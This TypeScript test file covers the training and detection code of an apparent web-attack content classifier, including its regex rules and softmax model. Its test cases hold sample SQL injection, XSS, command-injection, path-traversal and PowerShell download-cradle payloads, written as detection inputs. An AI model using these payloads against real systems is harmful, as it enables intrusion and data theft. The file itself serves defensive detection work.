/** The training building blocks, in process: generator, data, isolation forest, logistic regression, TF-IDF, text analysis. */

import { toModelText } from "../../models/content-input";
import { anyRulePattern, CONTENT_RULES, fullMatchPattern, ruleFeatures } from "../../models/content-rules";
import { contentMetrics, formatRate } from "../../models/evaluation/content-metrics";
import { FLOAT32_MAX, float32AtOrBelow } from "../../models/float32";
import { contentPredict } from "../../models/reference/content-classifier";
import {
  contentFeatures,
  countScale,
  forEachAsciiNgram,
  graphCodePoints,
} from "../../models/reference/content-features";
import { isolationForestScore } from "../../models/reference/isolation-forest";
import { selectVocabulary, trainContentClassifier } from "../../models/training/char-ngram-softmax";
import { parseHttpParams, readHttpParams } from "../../models/training/content/httpparams";
import { LOGIN_SAMPLES, poissonMixture, uniformMixture } from "../../models/training/datasets";
import { averagePathLength, percentile, trainIsolationForest } from "../../models/training/isolation-forest";
import { fitLogisticRegression, sigmoid } from "../../models/training/logistic-regression";
import { SeededRandom } from "../../models/training/random";

describe("SeededRandom", () => {
  test("the same seed gives the same sequence, another seed another", () => {
    const draw = (seed: number) => {
      const r = new SeededRandom(seed);
      return Array.from({ length: 5 }, () => r.nextUint32());
    };
    expect(draw(7)).toEqual(draw(7));
    expect(draw(7)).not.toEqual(draw(8));
  });

  test("uniform doubles lie in [0, 1) with mean 1/2 and variance 1/12", () => {
    const r = new SeededRandom(1);
    const xs = Array.from({ length: 100_000 }, () => r.nextDouble());
    const mean = xs.reduce((a, b) => a + b, 0) / xs.length;
    const variance = xs.reduce((a, b) => a + (b - mean) ** 2, 0) / xs.length;
    expect(Math.min(...xs)).toBeGreaterThanOrEqual(0);
    expect(Math.max(...xs)).toBeLessThan(1);
    expect(mean).toBeCloseTo(0.5, 2);
    expect(variance).toBeCloseTo(1 / 12, 2);
  });

  test("Poisson draws have mean and variance lambda", () => {
    const counts = poissonMixture(new SeededRandom(3), [{ count: 20_000, lambda: 100 }]);
    const mean = counts.reduce((a, b) => a + b, 0) / counts.length;
    const variance = counts.reduce((a, b) => a + (b - mean) ** 2, 0) / counts.length;
    expect(counts.every(Number.isInteger)).toBe(true);
    expect(Math.abs(mean - 100)).toBeLessThan(0.5);
    expect(Math.abs(variance - 100)).toBeLessThan(5);
  });

  test("sampling without replacement gives distinct indices in range", () => {
    const sample = new SeededRandom(5).sampleWithoutReplacement(1050, 256);
    expect(new Set(sample).size).toBe(256);
    expect(sample.every((i) => Number.isInteger(i) && i >= 0 && i < 1050)).toBe(true);
  });
});

describe("isolation forest", () => {
  test("c(n) is scikit-learn's average path length", () => {
    expect(averagePathLength(1)).toBe(0);
    expect(averagePathLength(2)).toBe(1);
    expect(averagePathLength(256)).toBeCloseTo(
      2 * (Math.log(255) + 0.5772156649015329) - (2 * 255) / 256,
      12,
    );
    expect(averagePathLength(256)).toBeCloseTo(10.24477, 5);
  });

  test("percentile interpolates linearly like numpy", () => {
    expect(percentile([4, 1, 3, 2], 5)).toBeCloseTo(1.15, 12);
    expect(percentile([10, 0, 5], 50)).toBe(5);
    expect(percentile([1, 2], 100)).toBe(2);
  });

  const data = uniformMixture(new SeededRandom(9), [
    { count: 1000, low: 5, high: 60 },
    { count: 50, low: 85, high: 100 },
  ]);
  const model = trainIsolationForest(
    data,
    { nEstimators: 100, maxSamples: 256, contamination: 0.05 },
    new SeededRandom(9),
  );

  test("grows 100 trees on 256 samples each, no deeper than log2(256)", () => {
    expect(model.trees).toHaveLength(100);
    expect(model.sampleSize).toBe(256);
    const depth = (nodes: (typeof model.trees)[number]["nodes"], id: number): number => {
      const node = nodes[id];
      return node.kind === "leaf" ? 0 : 1 + Math.max(depth(nodes, node.left), depth(nodes, node.right));
    };
    for (const tree of model.trees) expect(depth(tree.nodes, 0)).toBeLessThanOrEqual(8);
  });

  test("the threshold flags the contamination share of the training data", () => {
    const flagged = data.filter((x) => isolationForestScore(model, x) > model.threshold).length;
    // numpy's percentile at 5 % of 1050 scores interpolates between the 53rd and 54th highest,
    // so scikit-learn's rule flags 53 of them (5.05 %).
    expect(flagged).toBe(Math.floor(0.05 * (data.length - 1)) + 1);
  });

  test("scores are in (0, 1] and higher far from the data than inside it", () => {
    const inside = isolationForestScore(model, 30);
    for (const far of [0, 100, 1e6, Number.POSITIVE_INFINITY])
      expect(isolationForestScore(model, far)).toBeGreaterThan(inside);
    expect(inside).toBeGreaterThan(0);
    expect(isolationForestScore(model, 1e6)).toBeLessThanOrEqual(1);
  });

  test("training is deterministic", () => {
    const again = trainIsolationForest(
      data,
      { nEstimators: 100, maxSamples: 256, contamination: 0.05 },
      new SeededRandom(9),
    );
    expect(again).toEqual(model);
  });
});

describe("logistic regression", () => {
  test("the login fit sits at the optimum of scikit-learn's objective (gradient zero)", () => {
    const fit = fitLogisticRegression(LOGIN_SAMPLES.features, LOGIN_SAMPLES.labels, 1);
    // Gradient of 0.5 * |w|^2 + C * sum(log-loss), computed independently of the trainer.
    const gradient = [...fit.weights, 0];
    LOGIN_SAMPLES.features.forEach((row, i) => {
      const p = sigmoid(row[0] * fit.weights[0] + row[1] * fit.weights[1] + fit.intercept);
      const residual = p - LOGIN_SAMPLES.labels[i];
      gradient[0] += residual * row[0];
      gradient[1] += residual * row[1];
      gradient[2] += residual;
    });
    for (const g of gradient) expect(Math.abs(g)).toBeLessThan(1e-10);
    expect(fit.weights[0]).toBeGreaterThan(0);
    expect(fit.weights[1]).toBeLessThan(0);
  });

  test("stronger regularisation (smaller C) shrinks the weights", () => {
    const strong = fitLogisticRegression(LOGIN_SAMPLES.features, LOGIN_SAMPLES.labels, 0.01);
    const weak = fitLogisticRegression(LOGIN_SAMPLES.features, LOGIN_SAMPLES.labels, 1);
    expect(Math.hypot(...strong.weights)).toBeLessThan(Math.hypot(...weak.weights));
  });

  test("sigmoid does not overflow", () => {
    expect(sigmoid(-1000)).toBe(0);
    expect(sigmoid(1000)).toBe(1);
    expect(sigmoid(0)).toBe(0.5);
  });
});

describe("content features (what the graph's normaliser, char tokenizer and n-gram counter produce)", () => {
  const grams = (text: string, maxGram = 2) => {
    const seen: string[] = [];
    forEachAsciiNgram(graphCodePoints(text), maxGram, (g) => seen.push(g));
    return seen;
  };

  test("lowercases, then counts every 1..maxGram run of ASCII code points", () => {
    expect(grams("Ab c")).toEqual(["a", "ab", "b", "b ", " ", " c", "c"]);
  });

  test("an n-gram never spans a non-ASCII code point; U+0130 and U+212A lowercase to ASCII", () => {
    expect(grams("aé😀b")).toEqual(["a", "b"]);
    expect(grams("İ\u212A")).toEqual(["i", "ik", "k"]);
  });

  test("the graph sees a text up to its first U+0000, and toModelText turns U+0000 into a space", () => {
    expect(grams("a\u0000b")).toEqual(["a"]);
    expect(grams(toModelText("a\u0000b"))).toEqual(["a", "a ", " ", " b", "b"]);
    expect(grams("")).toEqual([]);
  });

  test("contentFeatures counts only vocabulary n-grams, and the scale is 1 / sqrt(their total)", () => {
    const index = new Map([
      ["a", 0],
      ["ab", 1],
    ]);
    const f = contentFeatures(index, 2, "abab x");
    expect(f).toMatchObject({ indices: [0, 1], counts: [2, 2], total: 4 });
    expect(countScale(f.total)).toBe(0.5);
    expect(countScale(0)).toBe(1);
  });
});

describe("content rules", () => {
  // code-character fires on most of these (any of < > ( ) ; = | & $ and the like): it has its own test.
  const fired = (text: string) =>
    CONTENT_RULES.filter((_, r) => ruleFeatures(text.toLowerCase())[r] === 1)
      .map((rule) => rule.name)
      .filter((name) => name !== "code-character");
  const codeCharacter = (text: string) =>
    ruleFeatures(text.toLowerCase())[CONTENT_RULES.findIndex((rule) => rule.name === "code-character")];

  test("code-character fires on the characters code and payloads need, not on plain words, dots, slashes or quotes", () => {
    for (const text of [
      "1=1",
      "<b>",
      "a;b",
      "$x",
      "`id`",
      "{}",
      "[x]",
      "%27",
      "a\\b",
      "me@x.io",
      "#1",
      "f(x)",
    ])
      expect([text, codeCharacter(text)]).toEqual([text, 1]);
    for (const text of [
      "select your seat",
      "O'Brien",
      "a/b/c",
      "www.example.com",
      "I'll drop by at 5 -- ok?",
      "",
    ])
      expect([text, codeCharacter(text)]).toEqual([text, 0]);
  });

  test.each([
    ["1' or 1=1 --", ["sql-tautology", "sql-quote-comment"]],
    ["1 union/**/all select null", ["sql-union-select"]],
    ["x'; drop table users", ["sql-stacked"]],
    ["1 and sleep(5)", ["sql-function"]],
    ["<img src=x onerror=alert(1)>", ["html-tag", "html-event-handler", "js-sink"]],
    ["<a href=javascript:x>", ["html-tag", "script-url"]],
    ["a; cat /etc/passwd", ["shell-command", "sensitive-file", "system-path"]],
    ["$(whoami)", ["shell-command", "shell-syntax", "shell-separator-first"]],
    ["..%2f..%2fboot.ini", ["path-climb", "sensitive-file", "percent-encoded-special"]],
    ["php://filter/resource=x", ["file-wrapper"]],
    ["| id", ["shell-command", "shell-separator-first"]],
    ["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", ["powershell"]],
    ["hxxp://evil[.]example", ["link-trick"]],
    ["https://paypal.com@10.0.0.1/login", ["link-trick"]],
    ["go to bit.ly/x1", ["link-trick"]],
    ["claim at prize.xyz now", ["abused-tld"]],
    ["free iphone at https://x.example/win", ["link-with-lure"]],
    ["1' -- -", ["sql-quote-comment"]],
    ["admin'--", ["sql-quote-comment"]],
  ])("%s fires exactly %j", (text, names) => {
    expect(fired(text)).toEqual(names);
  });

  test.each([
    "select your seat",
    "drop me a line",
    "rm the old files please",
    "x < y and y > z",
    "O'Brien",
    "https://github.com",
    // A dash or a hash after a digit or a quote is a SQL comment only when nothing like words follows.
    "I'll drop by at 5 -- ok?",
    "Order #12345",
    "o'reilly@example.ie",
    "Fish & Chips; tasty",
  ])("%s fires no rule but perhaps code-character", (text) => expect(fired(text)).toEqual([]));

  test("every pattern compiles the same way in the graph's wrapper", () => {
    for (const rule of CONTENT_RULES) expect(fullMatchPattern(rule)).toBe(`(?s).*(?:${rule.pattern}).*`);
  });

  test("the graph's any-rule pre-check matches exactly when some rule does", () => {
    const any = new RegExp(anyRulePattern().replace("(?s)", ""), "s");
    for (const text of [
      "x' or 1=1--",
      "<svg onload=x>",
      "..%2fa",
      "hello friend",
      "a < b",
      "$(id)",
      "",
      "select your seat",
      "; ls",
      "free stuff at www.x.example",
      "I'll drop by at 5 -- ok?",
    ]) {
      const lower = text.toLowerCase();
      expect([text, any.test(lower)]).toEqual([text, ruleFeatures(lower).some((on) => on === 1)]);
    }
  });
});

describe("content softmax training", () => {
  const texts = [
    ...["' or 1=1--", "1' or '1'='1", "admin'--", "' union select 1,2--", "1 or 1=1#"].map((text) => ({
      text,
      label: 1,
    })),
    ...["hello there", "see you soon", "good morning", "thanks a lot", "nice day"].map((text) => ({
      text,
      label: 0,
    })),
  ];
  const options = {
    maxGram: 3,
    vocabularySize: 50,
    minDocumentFrequency: 1,
    epochs: 30,
    batchSize: 4,
    learningRate: 0.05,
    l2: 1e-4,
    benignWeight: 1,
    useRules: true,
    useNgrams: true,
    seed: 1,
  };

  test("separates its training texts, and the same data and seed give the same weights", () => {
    const model = trainContentClassifier(texts, ["none", "sqli"], options);
    for (const t of texts) expect([t.text, contentPredict(model, t.text).label]).toEqual([t.text, t.label]);
    expect(trainContentClassifier(texts, ["none", "sqli"], options).weights).toEqual(model.weights);
    expect(model.ngrams.length).toBeLessThanOrEqual(50);
  });

  test("a rule left out keeps weight 0 in every class; the others learn", () => {
    const k = 2;
    const model = trainContentClassifier(texts, ["none", "sqli"], {
      ...options,
      withoutRules: ["sql-quote-comment"],
    });
    const ruleWeights = (name: string) => {
      const at = (model.ngrams.length + CONTENT_RULES.findIndex((rule) => rule.name === name)) * k;
      return model.weights.slice(at, at + k);
    };
    expect(ruleWeights("sql-quote-comment")).toEqual([0, 0]);
    expect(ruleWeights("sql-tautology").some((w) => w !== 0)).toBe(true);
  });

  test("the vocabulary keeps the n-grams whose class frequencies differ most", () => {
    const vocabulary = selectVocabulary(texts, 2, { ...options, vocabularySize: 3 });
    expect(vocabulary).toHaveLength(3);
    expect(vocabulary).toContain("'");
  });
});

describe("HttpParamsDataset reader", () => {
  test('parses quoted fields with "" escapes and CRLF line ends', () => {
    const csv =
      '"payload","length","attack_type","label"\r\n"a, ""b""","6","norm","norm"\r\n"\' or 1=1","8","sqli","anom"\r\n';
    expect(parseHttpParams(csv)).toEqual([
      { payload: 'a, "b"', attackType: "norm" },
      { payload: "' or 1=1", attackType: "sqli" },
    ]);
  });

  test("reads the shared training split with the counts its NOTICE states", () => {
    const rows = readHttpParams();
    const count = (type: string) => rows.filter((r) => r.attackType === type).length;
    expect(rows).toHaveLength(20_712);
    expect([count("norm"), count("sqli"), count("xss"), count("path-traversal"), count("cmdi")]).toEqual([
      12_870, 7_235, 355, 193, 59,
    ]);
  });
});

describe("content metrics", () => {
  test("recall per class, false positives per benign source and the confusion table", () => {
    const texts = [
      { text: "a", label: 1, source: "grammar" as const, unseenShape: true },
      { text: "b", label: 1, source: "httpparams" as const },
      { text: "c", label: 2, source: "grammar" as const, unseenShape: false },
      { text: "d", label: 0, source: "benign" as const },
      { text: "e", label: 0, source: "tricky" as const },
    ];
    const m = contentMetrics(
      texts,
      [
        { blocked: true, answered: 1 },
        { blocked: false, answered: 0 },
        { blocked: true, answered: 1 },
        { blocked: false, answered: 0 },
        { blocked: true, answered: 2 },
      ],
      3,
    );
    expect(m.recall).toEqual([
      { hits: 1, total: 2 },
      { hits: 1, total: 1 },
    ]);
    expect(m.overallRecall).toEqual({ hits: 2, total: 3 });
    expect(m.realisticFalsePositives).toEqual({ hits: 0, total: 1 });
    expect(m.trickyFalsePositives).toEqual({ hits: 1, total: 1 });
    expect(m.unseenShapeRecall).toEqual({ hits: 1, total: 1 });
    expect(m.httpparamsRecall).toEqual({ hits: 0, total: 1 });
    expect(m.categoryAccuracy).toEqual({ hits: 1, total: 2 });
    expect(m.confusion).toEqual([
      [1, 0, 1],
      [1, 1, 0],
      [0, 1, 0],
    ]);
    expect(formatRate({ hits: 1, total: 3 })).toBe("33.33 % (1 / 3)");
  });
});

describe("float32 rounding", () => {
  test("float32AtOrBelow gives the largest float32 not above x", () => {
    for (const x of [0.1, -0.1, 300.123456789, 1e-50, -1e-50, 5, 1e39]) {
      const below = float32AtOrBelow(x);
      expect(Math.fround(below)).toBe(below);
      expect(below).toBeLessThanOrEqual(x);
      const next = new Float32Array([below]);
      if (below > 0) new Uint32Array(next.buffer)[0] += 1;
      else if (below < 0) new Uint32Array(next.buffer)[0] -= 1;
      if (below !== 0 && below < FLOAT32_MAX) expect(next[0]).toBeGreaterThan(x);
    }
  });
});
